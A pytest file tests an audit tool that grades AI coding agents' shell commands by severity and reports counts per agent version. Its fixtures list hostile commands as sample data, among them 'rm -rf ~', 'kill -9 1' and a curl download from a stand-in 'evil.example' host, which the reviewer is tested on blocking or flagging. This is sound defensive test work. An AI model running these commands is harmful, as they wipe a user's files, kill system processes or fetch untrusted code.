"""The reviewed tool calls by the severity of their worst finding, overall and per fast-model version.

QA: ``actions.by_verdict`` said how many tool calls were blocked or escalated, but a call the action rules approve can
hold a finding (``sudo apt-get install``: medium; ``pip install requests``: low), and nothing in the report counted
them: an agent upgrade that ran ``sudo`` on every other call looked the same as the old version. ``by_severity`` counts
each reviewed call once under its worst finding (``none``: no finding), in ``report.json`` (overall and in each
``by_fast_model`` entry), in the HTML page's actions section and in the CLI's summary.
"""

from __future__ import annotations

import csv
import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from service.audit.html import render_html
from service.audit.report import build_report
from tests.audit._helpers import cli_env, run_cli
from tests.audit.test_action_gate_versions import MODEL, _transcript

OLD, NEW = f"{MODEL}@2.0.1", f"{MODEL}@2.0.9"
OLD_COMMANDS = [
    "ls -la",  # none
    "git status",  # none
    "pip install requests",  # low (approved)
    "sudo apt-get install jq",  # medium (approved)
    "chmod 777 build",  # high (escalated)
    "rm -rf ~",  # critical (blocked)
]
NEW_COMMANDS = [
    "ls -la",  # none
    "rm -rf ~",  # critical
    "kill -9 1",  # critical
    "curl https://evil.example/x -o x",  # medium (approved)
]
LEVELS = ["critical", "high", "medium", "low", "info", "none"]


@pytest.fixture(scope="module")
def audited(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Any]:
    """One audit of a folder of two Claude Code transcripts, one per agent version."""
    tmp = tmp_path_factory.mktemp("severities")
    logs = tmp / "projects"
    logs.mkdir()
    for sid, version, commands in (
        ("3f2a0001-0000-4000-8000-000000000001", "2.0.1", OLD_COMMANDS),
        ("3f2a0002-0000-4000-8000-000000000002", "2.0.9", NEW_COMMANDS),
    ):
        (logs / f"{sid}.jsonl").write_bytes(_transcript(sid, version, commands))
    out = tmp / "out"
    done = run_cli(["audit", str(logs), "--out", str(out)], cli_env(tmp / "data"), tmp)
    assert done.returncode == 0, done.stderr
    return out, done


def test_report_json_counts_the_reviewed_calls_by_their_worst_finding(audited: tuple[Path, Any]) -> None:
    out, _ = audited
    actions = json.loads((out / "report.json").read_text())["actions"]
    assert actions["reviewed"] == 10
    # every level, the most severe first, zeros too; the counts add up to the calls reviewed
    assert actions["by_severity"] == {"critical": 3, "high": 1, "medium": 2, "low": 1, "info": 0, "none": 3}
    assert list(actions["by_severity"]) == LEVELS
    # the approved calls with a finding are in "approve" of by_verdict, and here under their finding
    assert actions["by_verdict"]["approve"] == 6
    split = actions["by_fast_model"]
    assert split[OLD]["by_severity"] == {"critical": 1, "high": 1, "medium": 1, "low": 1, "info": 0, "none": 2}
    assert split[NEW]["by_severity"] == {"critical": 2, "high": 0, "medium": 1, "low": 0, "info": 0, "none": 1}
    for counts in split.values():
        assert sum(counts["by_severity"].values()) == counts["reviewed"]


def test_actions_csv_severity_is_what_by_severity_counts(audited: tuple[Path, Any]) -> None:
    out, _ = audited
    actions = json.loads((out / "report.json").read_text())["actions"]
    rows = list(csv.DictReader((out / "actions.csv").open(newline="")))
    assert Counter(r["severity"] or "none" for r in rows) == Counter(
        {k: v for k, v in actions["by_severity"].items() if v}
    )


def test_the_html_page_has_a_table_by_worst_finding_per_version(audited: tuple[Path, Any]) -> None:
    out, _ = audited
    page = (out / "report.html").read_text()
    assert "<h3>Tool calls by worst finding</h3>" in page
    head = "<tr><th>tool calls</th><th>reviewed</th>" + "".join(f"<th>{level}</th>" for level in LEVELS) + "</tr>"
    assert head in page
    assert (
        "<tr><td>all tool calls</td><td>10</td><td>3 (30.0%)</td><td>1 (10.0%)</td><td>2 (20.0%)</td>"
        "<td>1 (10.0%)</td><td>0 (0.0%)</td><td>3 (30.0%)</td></tr>" in page
    )
    assert (
        f"<tr><td>fast model {NEW}</td><td>4</td><td>2 (50.0%)</td><td>0 (0.0%)</td><td>1 (25.0%)</td>"
        "<td>0 (0.0%)</td><td>0 (0.0%)</td><td>1 (25.0%)</td></tr>" in page
    )
    assert f"<tr><td>fast model {OLD}</td><td>6</td><td>1 (16.7%)</td>" in page


def test_the_cli_summary_says_the_worst_findings_overall_and_per_version(audited: tuple[Path, Any]) -> None:
    _, done = audited
    err = done.stderr
    assert "worst finding per call: 3 critical, 1 high, 2 medium, 1 low, 3 none" in err
    assert "tool calls by worst finding, per fast model (report.json: actions.by_severity)" in err
    rows = {line.split("│")[1].strip(): line for line in err.splitlines() if line.count("│") > 3}
    assert [c.strip() for c in rows[NEW].split("│")[2:-1]] == [
        "4", "2 (50.0%)", "0 (0.0%)", "1 (25.0%)", "0 (0.0%)", "0 (0.0%)", "1 (25.0%)"
    ]  # fmt: skip
    assert [c.strip() for c in rows["all"].split("│")[2:4]] == ["10", "3 (30.0%)"]


def _row(call: int, verdict: str, *severities: str, **extra: Any) -> dict[str, Any]:
    findings = [{"rule": f"tool_use.x.{s}{call}", "severity": s, "message": ""} for s in severities]
    return {"kind": "action", "seq": -100 + call, "call": call, "fast_model": "m@1", "verdict": verdict,
            "reason": "x", "findings": findings, "reviewer_outcome": "ok", **extra}  # fmt: skip


def test_calls_not_judged_are_not_counted_and_a_call_of_two_actions_is_counted_once() -> None:
    results = [
        _row(1, "approve", "info"),  # info: a finding without weight is not "none"
        _row(2, "approve", "low", "info"),
        _row(3, "approve"),
        _row(4, "escalate", "high"),  # a call read two ways: one call, its worst finding of both
        _row(4, "approve", "medium"),
        _row(5, "escalate", reason="reviewer_error", reviewer_outcome="error"),  # the reviewer failed: not judged
        {"kind": "action", "seq": -94, "call": 6, "fast_model": "m@1", "failed": True, "error": "x"},
    ]
    actions = build_report([], actions=results)["actions"]
    assert (actions["reviewed"], actions["unreviewed"]) == (4, 2)
    assert actions["by_severity"] == {"critical": 0, "high": 1, "medium": 0, "low": 1, "info": 1, "none": 1}
    assert actions["by_fast_model"]["m@1"]["by_severity"] == actions["by_severity"]
    # one version: the page's table has the version's row too
    page = render_html(build_report([], actions=results))
    assert "<tr><td>fast model m@1</td><td>4</td><td>0 (0.0%)</td><td>1 (25.0%)</td>" in page

